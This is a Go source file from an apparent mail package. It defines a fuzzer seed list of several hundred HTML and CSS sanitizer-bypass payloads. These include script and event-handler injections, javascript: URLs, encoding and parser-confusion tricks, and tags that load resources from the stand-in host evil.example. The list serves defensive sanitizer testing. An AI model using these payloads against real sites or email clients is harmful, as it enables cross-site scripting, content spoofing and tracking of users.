package mail

// x1Vectors are our own ways of running, loading or covering; the fuzzer begins with them.
var x1Vectors = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<form action=//x><input type=submit></form>`,
	`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<p style="background:url(javascript:alert(1))">`, `<p style="background:u\72l(//x)">`, `<p style="x:expression(alert(1))">`, `<div style="position:fixed;top:0">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
	`<title><a title="</title><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)> -->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<template><img src=x onerror=alert(1)></template>`, `<object data="data:text/html,<script>alert(1)</script>">`, `<embed src=x>`, `<video><source onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`, `<img """><script>alert(1)</script>">`, `<a title="x" onmouseover = alert(1)>x</a>`,
	`<p title='"><img src=x onerror=alert(1)>'>`, `<img alt="` + "`" + `><img src=x onerror=alert(1)>">`, `<div id=x name=y class=z>`, `<a id=location href=x>`,
	`<svg><animate attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<frameset onload=alert(1)>`, `<table background="javascript:alert(1)">`, `<isindex action=javascript:alert(1)>`, `<input autofocus onfocus=alert(1)>`,
	`<font face="x" color="red;background:url(//x)">x</font>`, `<p style="font-family:'a;position:fixed;b'">x</p>`, `<p style="color:red/*;*/;position/**/:fixed">`,
	"<p style=\"color:red\x00;position:fixed\">", `<p style="list-style-image:url(//x)">`, `<p style="border-image:url(//x)">`, `<p style="content:attr(x)">`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, "<img\fsrc=x\fonerror=alert(1)>",
	// elements that run, load or submit
	`<script src=//evil.example/x.js></script>`, `<SCRIPT>alert(1)</SCRIPT>`, `<script/x>alert(1)</script>`, "<script\n>alert(1)</script\n>", `<script>alert(1)`, `<iframe src=//evil.example>`, `<iframe src="javascript:alert(1)">`,
	`<frame src="javascript:alert(1)">`, `<applet code=x>`, `<audio src=//evil.example autoplay>`, `<video poster=//evil.example/x>`, `<source srcset=//evil.example/x>`, `<track src=//evil.example>`, `<input type=image src=//evil.example/x>`,
	`<button formaction="javascript:alert(1)">`, `<form><button formaction=//evil.example>x</button></form>`, `<select onfocus=alert(1) autofocus>`, `<keygen onfocus=alert(1)>`, `<marquee onstart=alert(1)>`, `<bgsound src=//evil.example/x>`,
	`<layer src=//evil.example>`, `<ilayer src=//evil.example>`, `<xml id=x src=//evil.example>`, `<dialog open onclose=alert(1)>`, `<portal src=//evil.example>`, `<slot onslotchange=alert(1)>`, `<menu><command onclick=alert(1)>`,
	// svg, math and what they change in a parser
	`<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,x#y">`, `<svg><foreignObject><img src=x onerror=alert(1)>`,
	`<svg><set attributeName=onmouseover to=alert(1)>`, `<svg><image href=//evil.example/x>`, `<svg><feImage href=//evil.example/x>`, `<svg><style>@import url(//evil.example)</style>`, `<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
	`<math href="javascript:alert(1)">x</math>`, `<math><mi xlink:href="javascript:alert(1)">`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	// attributes
	`<p onclick=alert(1)>x</p>`, `<p ONCLICK="alert(1)">x</p>`, `<p/onclick=alert(1)/>`, "<p onclick\t=alert(1)>", `<img src="x" onload="alert(1)" onerror='alert(1)'>`, `<a href=x onpointerenter=alert(1)>`, `<table onscroll=alert(1)>`,
	`<a href="java&NewLine;script:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`, `<a href="http://a b/">x</a>`, `<a href="//evil.example">x</a>`, `<a href="\\\\evil.example\\x">x</a>`, `<a ping=//evil.example href=https://x.example>x</a>`,
	`<a href=https://x.example target=_top>x</a>`, `<a href=https://x.example download>x</a>`, `<img src="http:javascript:alert(1)">`, `<img lowsrc=//evil.example/x dynsrc=//evil.example/y>`, `<img longdesc=//evil.example usemap=#x ismap>`,
	`<q cite=//evil.example>x</q>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`, `<del cite=//evil.example>x</del>`, `<body background=//evil.example/x>`, `<td background=//evil.example/x>`, `<p contenteditable onbeforeinput=alert(1)>`,
	`<p style="behavior:url(//evil.example)">`, `<p style="-moz-binding:url(//evil.example)">`, `<p style="background-image:url('//evil.example')">`, `<p style="background:URL(//evil.example)">`, `<p style="background:image-set('//evil.example' 1x)">`,
	`<p style="cursor:url(//evil.example),auto">`, `<p style="color:\65xpression(alert(1))">`, `<p style="width:calc(1px + 1px)">`, `<p style="--x:url(//evil.example);color:var(--x)">`, `<p style="position:absolute;left:0;z-index:9">`,
	`<p style="margin-top:-9999px">`, `<p style="transform:scale(99)">`, `<p style="filter:url(//evil.example)">`, `<p style="mask:url(//evil.example)">`, `<p style="font:12px/1 url(x)">`, `<p style="color:red}body{display:none">`,
	// tags that are none, or broken
	`<a<script>alert(1)</script>`, `<p <script>alert(1)</script>`, `<%<!--'%><script>alert(1)</script>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE x [<!ENTITY y "z">]><p>&y;`, `</script><script>alert(1)</script>`, "<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<img src=x onerror\x00=alert(1)>", `<img src='x' "onerror=alert(1)>`, `<p title="x>y" onclick=alert(1)>`, "<p title=`x` onclick=alert(1)>", `<table><td><script>alert(1)</script></table>`, `<style><!--</style><script>alert(1)</script>-->`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
}
